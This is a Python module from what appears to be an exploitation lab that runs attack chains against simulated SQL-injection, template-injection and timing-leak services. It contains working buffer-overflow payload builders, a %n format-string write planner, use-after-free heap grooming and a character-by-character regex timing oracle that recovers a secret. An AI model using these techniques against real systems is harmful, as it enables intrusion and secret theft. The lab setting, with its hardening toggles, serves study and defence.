"""Attack drivers: payload builders, grooming, calibration, reconstruction.

Every chain here talks to a ScenarioState the way an external client would,
through its request operations. The only lab-side shortcuts are explicit
verification reads: grooming checks compare the two published chunk
addresses, and the timing attack's recovered secret is checked against slot
memory at the end so the report can state success honestly.
"""

from __future__ import annotations

import json
import statistics
import time
from dataclasses import dataclass, field
from typing import Callable, List, Optional

from .faults import (
    AlphabetExhausted,
    GroomFailed,
    LabFault,
    OracleAmbiguous,
    PayloadTooLarge,
)
from .layout import (
    DESIGNATED_HARDENING,
    G_ADDR_A,
    G_ADDR_B,
    INPUT_MAX,
    FMT_PAD_MAX,
    SECRET_ALPHABET,
    XSLEAK_SLOT_SIZE,
    check_combination,
    slot_addr,
)
from .linmem import HardeningConfig
from .scenarios import DEFAULT_AUTH_TOKEN, ScenarioState

SQL_CONSTANT_PROBE = b"SELECT 1"
SQL_DUMP = b"SELECT secret FROM users"
TPL_ARITHMETIC = b"#{7*7}"
TPL_EXEC = b"#{exec(leak)}"

FRAME_FILL = 32
PROBE_LEN = 47  # keeps every heap probe inside the freed chunk's window
RECON_B = 1000  # worst-case hit/miss step ratio stays above 200
RECON_MAX_LEN = 24


# -- payload builders --------------------------------------------------------


def build_bof_payload(fill_len: int, inject: bytes) -> bytes:
    """Filler to cross the declared buffer, then the bytes to plant."""
    if fill_len < 0:
        raise ValueError("fill_len must be nonnegative")
    total = fill_len + len(inject)
    if total > INPUT_MAX:
        raise PayloadTooLarge(f"payload {total} exceeds {INPUT_MAX}")
    return b"A" * fill_len + inject


def plan_format_write(target: int, data: bytes) -> List[tuple]:
    """Per-byte write plan against an ascending address range.

    Each step pads the output to the byte's value and fires a length
    write-back at target+i. The write stores a 32-bit little-endian count,
    so each step scribbles zeros over the next three bytes; ascending order
    means every byte except the final three gets repaired by a later step.
    Callers own the 3-byte scratch margin past the end.
    """
    steps = []
    for i, byte in enumerate(data):
        if byte > FMT_PAD_MAX:
            raise PayloadTooLarge(f"padding {byte} exceeds {FMT_PAD_MAX}")
        steps.append(("A" * byte + "%n", target + i, 0))
    return steps


def run_format_write(state: ScenarioState, target: int, data: bytes) -> int:
    """Execute a write plan through the format endpoint; returns requests."""
    plan = plan_format_write(target, data)
    for fmt, a0, a1 in plan:
        state.fmt_request(fmt, a0, a1)
    return len(plan)


# -- heap grooming -----------------------------------------------------------


def groom_uaf(state: ScenarioState, payload: bytes, slot: int = 1) -> int:
    """Drive the scenario's free+reallocate cycle and verify the landing.

    Returns the landing address when the fresh allocation sits exactly on
    the stale published address. Raises EGROOM otherwise, which is also
    the expected outcome under quarantine or a mis-sized payload.
    """
    if state.scenario == "sqli":
        state.sqli_set_token(payload)
    elif state.scenario == "ssti":
        state.ssti_free_nonce()
        state.ssti_set_input(payload.decode("latin-1"))
    elif state.scenario == "xsleak":
        state.xsleak_free_pattern()
        state.xsleak_store_secret(slot, payload)
    else:
        raise ValueError(state.scenario)
    stale = state.backend.mem.read_u32(G_ADDR_A)
    fresh = state.backend.mem.read_u32(G_ADDR_B)
    if stale == 0 or fresh != stale:
        raise GroomFailed(
            f"allocation landed at {fresh:#x}, stale pointer holds {stale:#x}")
    return fresh


# -- timing oracle -----------------------------------------------------------


def make_probe(known: str, ch: str, b: int = RECON_B,
               total_len: int = PROBE_LEN) -> str:
    """Anchored prefix probe padded to a fixed length with counter zeros.

    A matching prefix pays roughly 5*b engine steps; a mismatch fails in a
    handful. The zero padding keeps every probe exactly total_len bytes so
    heap-delivered probes always fit the groomed chunk.
    """
    head = f"^{known}{ch}(.*){{"
    digits = total_len - len(head) - 1
    if digits < len(str(b)):
        raise ValueError("probe too long for the fixed length")
    return f"{head}{b:0{digits}d}}}"


def pattern_injector(state: ScenarioState) -> Callable[[str], None]:
    """Return the pattern delivery primitive for the state's vector."""
    if state.scenario != "xsleak":
        raise ValueError(f"pattern delivery targets the search service, "
                         f"not {state.scenario!r}")
    if state.variant == "bof":
        def inject(pattern: str) -> None:
            state.xsleak_store_secret(
                3, build_bof_payload(FRAME_FILL, pattern.encode("latin-1")))
    elif state.variant == "uaf":
        def inject(pattern: str) -> None:
            groom_uaf(state, pattern.encode("latin-1"))
    else:
        raise ValueError(f"no pattern delivery for vector {state.variant!r}")
    return inject


@dataclass
class CalibrationTable:
    """Hit/miss reference measurements and the derived decision threshold."""

    b: int
    samples: int
    hit_steps: List[int]
    miss_steps: List[int]
    hit_elapsed: List[float]
    miss_elapsed: List[float]

    @property
    def threshold_steps(self) -> float:
        hit = statistics.median(self.hit_steps)
        miss = max(statistics.median(self.miss_steps), 1)
        return (hit * miss) ** 0.5

    @property
    def threshold_elapsed(self) -> float:
        hit = statistics.median(self.hit_elapsed)
        miss = max(statistics.median(self.miss_elapsed), 1e-7)
        return (hit * miss) ** 0.5

    @property
    def ratio(self) -> float:
        return statistics.median(self.hit_steps) / max(
            statistics.median(self.miss_steps), 1)

    def separable(self, margin: float = 4.0) -> bool:
        return self.ratio >= margin


def _measure(state: ScenarioState, samples: int) -> tuple:
    steps, elapsed = [], []
    for _ in range(samples):
        env = state.xsleak_search(auth=state.policy.auth_token)
        steps.append(env.steps if env.steps is not None else 0)
        elapsed.append(env.elapsed)
    return steps, elapsed


def calibrate(state: ScenarioState, samples: int = 3,
              b: int = RECON_B) -> CalibrationTable:
    """Measure control probes that hit and miss by construction.

    The empty-prefix probe matches any secret; the "-" probe cannot match
    because the dash is outside the secret alphabet. Neither consumes
    knowledge of the secret.
    """
    inject = pattern_injector(state)
    inject(_always_hit_probe(b))
    hit_steps, hit_elapsed = _measure(state, samples)
    inject(make_probe("", "-", b=b))
    miss_steps, miss_elapsed = _measure(state, samples)
    return CalibrationTable(b=b, samples=samples,
                            hit_steps=hit_steps, miss_steps=miss_steps,
                            hit_elapsed=hit_elapsed, miss_elapsed=miss_elapsed)


def _always_hit_probe(b: int) -> str:
    head = "^(.*){"
    digits = PROBE_LEN - len(head) - 1
    return f"{head}{b:0{digits}d}}}"


def decide(measurements: List[float], threshold: float) -> bool:
    return statistics.median(measurements) >= threshold


@dataclass
class ReconResult:
    secret: str
    searches: int
    complete: bool


def reconstruct_secret(
    state: ScenarioState,
    table: CalibrationTable,
    alphabet: str = SECRET_ALPHABET,
    max_len: int = RECON_MAX_LEN,
    samples: int = 1,
    b: int = RECON_B,
) -> ReconResult:
    """Character-by-character blind recovery through the search timing.

    Every position tries the whole alphabet so that double hits surface as
    EAMBIGUOUS instead of silently taking the first candidate. Zero hits
    mean either the end of the secret, confirmed with an empty-extension
    probe, or a dead oracle, reported as EEXHAUSTED. In wall-clock mode one
    retry with doubled samples runs before giving up on a position.
    """
    inject = pattern_injector(state)
    use_steps = state.test_mode
    threshold = table.threshold_steps if use_steps else table.threshold_elapsed

    def probe_once(known: str, ch: str, n: int) -> List[float]:
        inject(make_probe(known, ch, b=b))
        steps, elapsed = _measure(state, n)
        return steps if use_steps else elapsed

    known = ""
    searches = 0
    for position in range(max_len):
        attempt_samples = samples
        for attempt in (0, 1):
            hits = []
            for ch in alphabet:
                values = probe_once(known, ch, attempt_samples)
                searches += attempt_samples
                if decide(values, threshold):
                    hits.append(ch)
            if len(hits) == 1:
                break
            if use_steps or attempt == 1:
                break
            attempt_samples *= 2  # wall-clock retry with more samples
        if len(hits) > 1:
            raise OracleAmbiguous(
                f"position {position}: candidates {hits!r} after {known!r}")
        if not hits:
            inject(_end_probe(known, b))
            steps, elapsed = _measure(state, attempt_samples)
            searches += attempt_samples
            if decide(steps if use_steps else elapsed, threshold):
                return ReconResult(known, searches, True)
            raise AlphabetExhausted(
                f"position {position}: no candidate, recovered {known!r}")
        known += hits[0]
    return ReconResult(known, searches, True)


def _end_probe(known: str, b: int) -> str:
    head = f"^{known}(.*){{"
    digits = PROBE_LEN - len(head) - 1
    return f"{head}{b:0{digits}d}}}"


# -- full chains -------------------------------------------------------------


@dataclass
class ExploitReport:
    scenario: str
    vector: str
    hardened: bool
    success: bool
    evidence: dict = field(default_factory=dict)
    requests: int = 0

    def to_json(self) -> str:
        return json.dumps(
            {"scenario": self.scenario, "vector": self.vector,
             "hardened": self.hardened, "success": self.success,
             "evidence": self.evidence, "requests": self.requests},
            indent=2, sort_keys=True)


def resolve_hardening(scenario: str, vector: str,
                      hardened: bool) -> HardeningConfig:
    config = HardeningConfig()
    if hardened:
        setattr(config, DESIGNATED_HARDENING[(scenario, vector)], True)
    return config


ALL_SECRET_ROWS = [["rootsecret"], ["wonderland"], ["zaq12wsx"]]


def _run_sqli(state: ScenarioState, vector: str, evidence: dict) -> bool:
    if vector == "bof":
        state.sqli_set_token(build_bof_payload(FRAME_FILL, SQL_DUMP))
    elif vector == "ufs":
        addr = state.backend.call_export("sqli_get_query_addr")
        evidence["writes"] = run_format_write(state, addr, SQL_DUMP)
        evidence["target_bytes_per_request"] = round(
            len(SQL_DUMP) / evidence["writes"], 2)
    elif vector == "uaf":
        groom_uaf(state, SQL_DUMP.ljust(PROBE_LEN))
    elif vector == "iof":
        result = state.sqli_lookup(2 ** 32)
        evidence["rows"] = result.rows
        return result.rows == [[0, "admin", "rootsecret", "admin"]]
    result = state.sqli_lookup(1)
    evidence["rows"] = result.rows
    return result.rows == ALL_SECRET_ROWS


def _run_ssti(state: ScenarioState, vector: str, evidence: dict) -> bool:
    if vector == "bof":
        state.ssti_set_input(
            build_bof_payload(FRAME_FILL, TPL_EXEC).decode("latin-1"))
    elif vector == "ufs":
        addr = state.backend.call_export("ssti_make_nonce")
        evidence["writes"] = run_format_write(state, addr, TPL_EXEC)
    elif vector == "uaf":
        state.ssti_render()  # force the lazy nonce allocation
        groom_uaf(state, TPL_EXEC)
    page = state.ssti_render()
    evidence["ace"] = page["ace"]
    evidence["nonce"] = page["nonce"]
    return page["ace"] and "[ACE]" in page["page"]


def _run_xsleak(state: ScenarioState, vector: str, evidence: dict) -> bool:
    table = calibrate(state)
    evidence["calibration_ratio"] = round(table.ratio, 2)
    if not table.separable():
        evidence["reason"] = "no timing separation after calibration"
        return False
    recon = reconstruct_secret(state, table)
    evidence["recovered"] = recon.secret
    evidence["search_requests"] = recon.searches
    actual = state.backend.mem.read_cstring(slot_addr(0), XSLEAK_SLOT_SIZE)
    evidence["verified"] = recon.secret == actual
    return recon.complete and recon.secret == actual


def run_exploit(scenario: str, vector: str, hardened: bool = False,
                backend: str = "sim", module_path=None,
                hardening: Optional[HardeningConfig] = None) -> ExploitReport:
    """Run one end-to-end chain and report what an auditor needs to see.

    hardened picks the pair's designated flag; an explicit hardening config
    overrides that for arbitrary flag combinations.
    """
    check_combination(scenario, vector)
    if hardening is None:
        hardening = resolve_hardening(scenario, vector, hardened)
    state = ScenarioState(
        scenario, vector, hardening=hardening,
        backend_kind=backend, module_path=module_path)
    report = ExploitReport(scenario=scenario, vector=vector,
                           hardened=hardening.any_enabled(), success=False)
    started = time.perf_counter()
    try:
        if scenario == "sqli":
            report.success = _run_sqli(state, vector, report.evidence)
        elif scenario == "ssti":
            report.success = _run_ssti(state, vector, report.evidence)
        else:
            report.success = _run_xsleak(state, vector, report.evidence)
    except LabFault as fault:
        report.evidence["fault"] = fault.code
        report.evidence["detail"] = str(fault)
    finally:
        report.requests = state.requests
        report.evidence["elapsed_s"] = round(
            time.perf_counter() - started, 3)
        state.close()
    return report


def run_matrix(hardened_values=(False, True), backend: str = "sim") -> list:
    """All implemented scenario/vector pairs, off and on."""
    reports = []
    for (scenario, vector) in sorted(DESIGNATED_HARDENING):
        for hardened in hardened_values:
            reports.append(run_exploit(scenario, vector, hardened=hardened,
                                       backend=backend))
    return reports
